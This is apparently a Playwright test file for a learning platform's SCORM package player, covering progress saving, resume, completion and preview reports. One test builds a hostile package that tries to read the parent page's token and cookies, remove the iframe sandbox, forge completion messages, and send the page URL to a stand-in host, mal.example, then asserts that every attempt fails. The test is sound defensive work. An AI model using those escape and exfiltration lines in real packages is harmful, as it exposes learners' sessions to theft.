import type { Page } from '@playwright/test';
import { FERRAMENTAS, JANELA } from './pacotes-de-ferramentas.ts';
import { cursoComPacote, pacote } from './pacotes.ts';
import { expect, expectAccessible, signIn, test } from './program.ts';

const ALUNO = 'gestor@habilita.example';
const tokenDe = (page: Page) =>
  page.evaluate(() => (sessionStorage.getItem('token') ?? '').replaceAll('"', ''));

/** What a package shows: its frame stands in the page around it. */
const dentro = (page: Page, titulo: string) =>
  page.frameLocator(`iframe[title="${titulo}"]`).frameLocator('iframe[title="Conteúdo do pacote"]');

/** A lesson of two pages in the words of SCORM 1.2: begins in one, ends in the other. */
const DUAS_PAGINAS = {
  'index.html': `<!DOCTYPE html><html lang="pt-BR"><head><meta charset="utf-8"><title>Lição</title></head><body>
    <p id="estado"></p><button id="marcar">Marcar</button><a href="dir/fim.html">Ir ao fim</a>
    <script>
      function acharApi(w) { for (var n = 0; n < 9; n++) { if (w.API) return w.API; if (w.parent === w) return null; w = w.parent; } }
      var api = acharApi(window);
      api.LMSInitialize('');
      function mostrar() {
        document.getElementById('estado').textContent = [api.LMSGetValue('cmi.core.entry'),
          api.LMSGetValue('cmi.core.lesson_location'), api.LMSGetValue('cmi.suspend_data')].join('|');
      }
      document.getElementById('marcar').onclick = function () {
        api.LMSSetValue('cmi.core.lesson_location', 'tela-3');
        api.LMSSetValue('cmi.suspend_data', 'açãó {"a":1}');
        api.LMSSetValue('cmi.core.lesson_status', 'incomplete');
        localStorage.setItem('x', '1');
        mostrar();
      };
      mostrar();
    </script></body></html>`,
  'dir/fim.html': `<!DOCTYPE html><title>Fim</title><p id="estado"></p><button id="concluir">Concluir</button>
    <script>
      var API = parent.API;
      document.getElementById('estado').textContent = API.LMSGetValue('cmi.core.lesson_location');
      document.getElementById('concluir').onclick = function () {
        API.LMSSetValue('cmi.core.score.raw', '95');
        API.LMSSetValue('cmi.core.lesson_status', 'passed');
        API.LMSFinish('');
      };
    </script>`,
};

test('um pacote guarda onde a pessoa parou, atravessa páginas e recargas, e informa a conclusão', async ({
  page,
  program,
  browser,
}) => {
  await signIn(page, 'adm@habilita.example');
  const servico = { ...program, token: await tokenDe(page) };
  const endereco = await cursoComPacote(servico, {
    nome: 'Lição interativa',
    bytes: pacote('1.2', DUAS_PAGINAS),
    aluno: ALUNO,
  });

  const contexto = await browser.newContext({ baseURL: program.url, viewport: { width: 390, height: 800 } });
  const aluno = await contexto.newPage();
  await signIn(aluno, ALUNO);
  await aluno.goto(endereco);
  const moldura = dentro(aluno, 'Lição interativa');
  await expect(moldura.locator('#estado')).toHaveText('ab-initio||');
  const gravou = aluno.waitForResponse((resposta) => resposta.url().includes('scormProgresso'));
  await moldura.getByRole('button', { name: 'Marcar' }).click();
  await expect(moldura.locator('#estado')).toHaveText('ab-initio|tela-3|açãó {"a":1}');
  await moldura.getByRole('link', { name: 'Ir ao fim' }).click();
  await expect(moldura.locator('#estado')).toHaveText('tela-3');
  await expectAccessible(aluno);
  expect((await gravou).status()).toBe(200);

  await aluno.reload();
  await expect(moldura.locator('#estado')).toHaveText('resume|tela-3|açãó {"a":1}');
  await moldura.getByRole('link', { name: 'Ir ao fim' }).click();
  await moldura.getByRole('button', { name: 'Concluir' }).click();
  // The first seconds are too few to be believed; then it counts by itself.
  await expect(aluno.getByRole('dialog', { name: 'Curso concluído' })).toBeVisible();
  await aluno.reload();
  await expect(aluno.getByText('Aula concluída').first()).toBeVisible();
  await expect(moldura.locator('#estado')).toHaveText(/^resume\|tela-3/);
  await contexto.close();
});

test('um pacote de 1.2 que só inicia e termina conclui quando a pessoa sai dele', async ({
  page,
  program,
  browser,
}) => {
  await signIn(page, 'adm@habilita.example');
  const servico = { ...program, token: await tokenDe(page) };
  const visita = `<!DOCTYPE html><title>Visita</title><h1>Portaria</h1><script>
    parent.API.LMSInitialize('');
    window.onunload = function () { parent.API.LMSFinish(''); };</script>`;
  const endereco = await cursoComPacote(servico, {
    nome: 'Visita à fábrica',
    bytes: pacote('1.2', { 'index.html': visita }),
    aluno: ALUNO,
  });
  const contexto = await browser.newContext({ baseURL: program.url });
  const aluno = await contexto.newPage();
  await signIn(aluno, ALUNO);
  await aluno.goto(endereco);
  await expect(dentro(aluno, 'Visita à fábrica').getByText('Portaria')).toBeVisible();
  const contou = aluno.waitForResponse(
    async (resposta) =>
      resposta.url().includes('scormProgresso') && (await resposta.json()).Concluida === true,
  );
  await aluno.goto('/#/cursos-aluno');
  await contou;
  await aluno.goto(endereco);
  await expect(aluno.getByText('Aula concluída').first()).toBeVisible();
  await contexto.close();
});

test('um pacote hostil não alcança a nossa página, os seus segredos nem a API @quick', async ({
  page,
  program,
}) => {
  const hostil = {
    'index.html': `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Hostil</title></head><body><pre id="saldo"></pre><script>
      var saldo = [];
      function tentar(nome, f) { try { var v = f(); saldo.push(nome + ': ' + (v === undefined || v === null || v === '' ? 'nada' : 'OBTEVE ' + v)); } catch (e) { saldo.push(nome + ': nada'); } }
      tentar('topo', function () { return top.document.title; });
      tentar('segredo', function () { return top.sessionStorage.length; });
      tentar('origem', function () { return self.origin === new URL('PAGINA').origin ? 'a da página' : ''; });
      tentar('cookie', function () { return document.cookie; });
      tentar('armazenamento', function () { return sessionStorage.getItem('token') || localStorage.length || ''; });
      tentar('navegar', function () { top.location = 'https://mal.example/'; });
      tentar('janela', function () { var w = window.open('PAGINA', 'x'); return w && w.document.title; });
      tentar('moldura', function () { parent.frameElement.removeAttribute('sandbox'); return 'sim'; });
      tentar('quadro', function () { var f = document.createElement('iframe'); f.src = 'PAGINA'; document.body.appendChild(f); return f.contentDocument.title; });
      function fim(nome) { return [function (r) { return r.text().then(function (t) { saldo.push(nome + ': OBTEVE ' + t); }); }, function () { saldo.push(nome + ': nada'); }]; }
      var a = fim('api'), b = fim('fora'), c = fim('documentação');
      Promise.all([
        fetch('PAGINA/api/aluno/cursos', { credentials: 'include' }).then(a[0], a[1]),
        fetch(new URL('/api/docs/json', document.URL)).then(c[0], c[1]),
        fetch('https://mal.example/?x=' + document.URL).then(b[0], b[1]),
        fetch('dados.json').then(function (r) { return r.text(); }).then(function (t) { saldo.push('próprio: ' + t); }, function (e) { saldo.push('próprio: falhou'); })
      ]).then(function () { document.getElementById('saldo').textContent = saldo.join('\\n'); });
      top.postMessage({ Cmi: { 'cmi.completion_status': 'completed' }, urgente: true }, '*');
      top.postMessage({ tipo: 'scorm', token: 1 }, '*', [new MessageChannel().port2]);
    </script></body></html>`,
    'dados.json': '{"meu":1}',
  };
  await signIn(page, 'adm@habilita.example');
  const servico = { ...program, token: await tokenDe(page) };
  hostil['index.html'] = hostil['index.html'].replaceAll('PAGINA', program.url);
  const bytes = pacote('2004 4th Edition', hostil);
  const endereco = await cursoComPacote(servico, {
    nome: 'Pacote hostil',
    bytes,
    aluno: 'admaluno@habilita.example',
  });
  const contexto = await page.context().browser()?.newContext({ baseURL: program.url });
  if (!contexto) throw new Error('no browser');
  const aluno = await contexto.newPage();
  await signIn(aluno, 'admaluno@habilita.example');
  await aluno.goto(endereco);
  const saldo = dentro(aluno, 'Pacote hostil').locator('#saldo');
  await expect(saldo).toContainText('próprio: {"meu":1}');
  await expect(saldo).not.toContainText('OBTEVE');
  await expect(aluno).toHaveURL(/curso-aluno/);
  await expect(aluno.getByText('Aula concluída')).toHaveCount(0);
  await contexto.close();
});

test('pacotes como os das ferramentas de autoria abrem, gravam e retomam', async ({
  page: autor,
  program,
  browser,
}) => {
  await signIn(autor, 'adm@habilita.example');
  const servico = { ...program, token: await tokenDe(autor) };
  const contexto = await browser.newContext({ baseURL: program.url });
  const page = await contexto.newPage();
  await signIn(page, ALUNO);
  for (const { nome, versao, paginas, doItem, moldura, antes, depois } of FERRAMENTAS) {
    const pacoteAberto = moldura ? dentro(page, nome).frameLocator(moldura) : dentro(page, nome);
    const estado = pacoteAberto.locator('#estado');
    await test.step(nome, async () => {
      const bytes = pacote(versao, paginas, doItem);
      const endereco = await cursoComPacote(servico, { nome, bytes, aluno: ALUNO });
      const gravou = page.waitForResponse((resposta) => resposta.url().includes('scormProgresso'));
      await page.goto(endereco);
      await expect(estado).toHaveText(antes);
      // Leaving tells the last of it.
      await page.goto('/#/cursos-aluno');
      await expect(page.getByRole('heading', { name: 'Meus cursos', level: 1 })).toBeVisible();
      expect((await gravou).status()).toBe(200);
      await page.goto(endereco);
      await expect(estado).toHaveText(depois);
    });
  }
  await contexto.close();
});

test('um pacote pergunta, abre a sua própria janela e grava dela', async ({
  page: autor,
  program,
  browser,
}) => {
  await signIn(autor, 'adm@habilita.example');
  const servico = { ...program, token: await tokenDe(autor) };
  const contexto = await browser.newContext({ baseURL: program.url });
  const page = await contexto.newPage();
  await signIn(page, ALUNO);
  const nome = 'Lição em janela';
  await page.goto(await cursoComPacote(servico, { nome, bytes: pacote('1.2', JANELA), aluno: ALUNO }));
  page.once('dialog', (pergunta) => void pergunta.accept());
  const gravou = page.waitForResponse((resposta) => resposta.url().includes('scormProgresso'));
  const [janela] = await Promise.all([
    page.waitForEvent('popup'),
    dentro(page, nome).getByRole('button', { name: 'Abrir o curso' }).click(),
  ]);
  await expect(janela.locator('#estado')).toHaveText('pronto ');
  await expect(dentro(page, nome).locator('#estado')).toHaveText('janela aberta');
  expect((await gravou).status()).toBe(200);
  await contexto.close();
});

test('na prévia o autor vê se o pacote iniciou, gravou e retomou', async ({ page, program }) => {
  const [ferramenta] = FERRAMENTAS;
  if (!ferramenta) throw new Error('no package to try');
  await signIn(page, 'adm@habilita.example');
  const servico = { ...program, token: await tokenDe(page) };
  const nome = 'Pacote em prova';
  const bytes = pacote(ferramenta.versao, ferramenta.paginas);
  const endereco = await cursoComPacote(servico, { nome, bytes, aluno: ALUNO });
  const [, IdCurso = '', aula = ''] = /curso-aluno\/(\d+)\?.*(aula=\d+)/.exec(endereco) ?? [];
  await page.goto(`/#/curso/${IdCurso}/previa?${aula}`);
  const passos = page.getByRole('status').filter({ hasText: 'O que este pacote fez nesta prévia' });
  await expect(passos.getByRole('listitem')).toHaveText([
    'Iniciou',
    'Gravou a situação',
    'Gravou a nota',
    /^Ainda não retomou/,
  ]);
  await expectAccessible(page);
  await page.getByRole('button', { name: 'Abrir de novo, de onde parou' }).click();
  await expect(passos.getByRole('listitem').last()).toHaveText('Retomou de onde parou');
  await expect(dentro(page, nome).frameLocator('iframe').locator('#estado')).toHaveText(ferramenta.depois);
});

test('quem envia um pacote o vê iniciar ali mesmo; de um mudo, lê o que fazer', async ({ page, program }) => {
  await signIn(page, 'adm@habilita.example');
  const servico = { ...program, token: await tokenDe(page) };
  const nome = 'Pacote a experimentar';
  const endereco = await cursoComPacote(servico, { nome, bytes: pacote('1.2', DUAS_PAGINAS), aluno: ALUNO });
  const [, IdCurso = '', aula = ''] = /curso-aluno\/(\d+)\?.*(aula=\d+)/.exec(endereco) ?? [];
  await page.clock.install();
  await page.goto(`/#/curso/${IdCurso}?${aula}`);
  const gaveta = page.getByRole('dialog');
  // One that was there is opened when its author says so.
  await expect(gaveta.getByRole('button', { name: 'Experimentar aqui' })).toBeVisible();
  const trocarPor = async (paginas: Record<string, string>) => {
    await gaveta.getByRole('button', { name: 'Remover' }).click();
    const buffer = pacote('1.2', paginas);
    await gaveta
      .getByLabel('Pacote SCORM ou cmi5')
      .setInputFiles({ name: 'pacote.zip', mimeType: 'application/zip', buffer });
  };
  const mudo = '<!DOCTYPE html><html lang="pt-BR"><title>Mudo</title><p>Um site comum</p></html>';
  await trocarPor({ 'index.html': mudo });
  await expect(dentro(page, nome).getByText('Um site comum')).toBeVisible();
  await page.clock.fastForward(20_000);
  await expect(gaveta.getByText('Nada foi ouvido deste pacote até agora')).toBeVisible();
  await page.mouse.move(0, 0);
  await expectAccessible(page);

  await trocarPor(DUAS_PAGINAS);
  await expect(gaveta.getByText(/^Na prévia: iniciou/)).toBeVisible();
  await dentro(page, nome).getByRole('button', { name: 'Marcar' }).click();
  await expect(gaveta.getByText(/^Na prévia: iniciou .*, gravou a situação/)).toBeVisible();
  // What else is saved meanwhile opens nothing anew.
  const salvou = page.waitForResponse((resposta) =>
    (resposta.request().postData() ?? '').includes('Outro título'),
  );
  await gaveta.getByLabel('Título').fill('Outro título');
  expect((await salvou).ok()).toBe(true);
  await expect(dentro(page, nome).locator('#estado')).toHaveText(/^ab-initio\|tela-3/);
  await expect(gaveta.getByText('Nada foi ouvido deste pacote até agora')).toBeHidden();
});

test('o que a prévia viu fica anotado na aula, e o que o pacote pediu a outros endereços', async ({
  browser,
  program,
}) => {
  // What the package asks of others is refused on the console too.
  const contexto = await browser.newContext({ baseURL: program.url });
  const page = await contexto.newPage();
  await signIn(page, 'adm@habilita.example');
  const servico = { ...program, token: await tokenDe(page) };
  const bytes = pacote('1.2', {
    'index.html': `<!DOCTYPE html><html lang="pt-BR"><head><meta charset="utf-8"><title>Lição</title></head><body>
      <img src="https://fotos.example/x.png" alt=""><iframe src="https://player.example/1" title="Vídeo"></iframe>
      <script>parent.API.LMSInitialize(''); parent.API.LMSSetValue('cmi.core.lesson_status', 'incomplete');</script></body></html>`,
  });
  const endereco = await cursoComPacote(servico, { nome: 'Pacote a ver', bytes, aluno: ALUNO });
  const [, IdCurso = '', aula = ''] = /curso-aluno\/(\d+)\?.*(aula=\d+)/.exec(endereco) ?? [];
  await page.goto(`/#/curso/${IdCurso}?${aula}`);
  await expect(page.getByText(/^Ninguém o viu iniciar ainda/)).toBeVisible();
  await page.goto(`/#/curso/${IdCurso}/previa?${aula}`);
  const fora = page.getByRole('status').filter({ hasText: 'Este pacote pede conteúdo a outros endereços' });
  await expect(fora).toContainText('imagem de fotos.example; página de player.example');
  await expectAccessible(page);
  await page.goto(`/#/curso/${IdCurso}?${aula}`);
  await expect(
    page.getByText(/^Na prévia: iniciou \(\d.*gravou a situação.*Ainda falta ver o pacote/),
  ).toBeVisible();
  await expect(fora).toBeVisible();
  await expectAccessible(page);
  await contexto.close();
});
